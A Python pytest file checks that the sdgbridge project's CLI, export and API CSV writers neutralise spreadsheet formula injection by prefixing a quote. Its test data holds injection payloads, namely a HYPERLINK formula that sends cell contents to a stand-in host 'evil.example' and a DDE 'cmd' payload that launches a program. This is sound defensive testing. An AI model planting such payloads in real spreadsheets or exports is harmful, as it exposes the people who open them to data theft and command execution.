"""Issue 13, finding 5: CSV that a spreadsheet opens as data, never as formulas — every CSV
writer for people (the command line's, ``sdgbridge export``, the API's)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from sdgbridge.cli.output import show
from sdgbridge.csvsafe import neutralised, write_csv
from sdgbridge.query.export import export_frame
from sdgbridge.web.render import csv_response

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
FRAME = pl.DataFrame({
    "name": [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "Aral-Sea", None,
             "-2.5", "+7"],
    "value": [-1.5, 2.0, -3.0, 0.0, 1e-9, -7.0, 1.0, None, 4.0, 5.0],
    "year": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
}).with_columns(kind=pl.col("name").cast(pl.Categorical))
SAFE = ["'" + LINK, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "Aral-Sea",
        None, "-2.5", "+7"]


def _cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_text_cells_that_start_a_formula_get_a_quote_numbers_do_not() -> None:
    out = neutralised(FRAME)
    assert out["name"].to_list() == SAFE
    assert out["kind"].to_list() == SAFE
    assert out["value"].to_list() == FRAME["value"].to_list()  # negative numbers stay numbers
    assert out["year"].dtype == pl.Int64 and out["year"][0] == -1
    assert _cells(write_csv(FRAME) or "", "value")[0] == "-1.5"


def test_the_command_line_csv_is_safe(capsys: pytest.CaptureFixture[str]) -> None:
    show(FRAME, "csv")
    text = capsys.readouterr().out
    assert _cells(text, "name")[0] == "'" + LINK and _cells(text, "year")[0] == "-1"


def test_sdgbridge_export_csv_is_safe(tmp_path: Path) -> None:
    path = export_frame(FRAME, tmp_path / "x.csv")
    text = path.read_text(encoding="utf-8")
    assert _cells(text, "name")[0] == "'" + LINK and _cells(text, "value")[0] == "-1.5"


def test_the_api_csv_is_safe() -> None:
    text = bytes(csv_response(FRAME).body).decode()
    assert _cells(text, "name")[0] == "'" + LINK and _cells(text, "value")[0] == "-1.5"
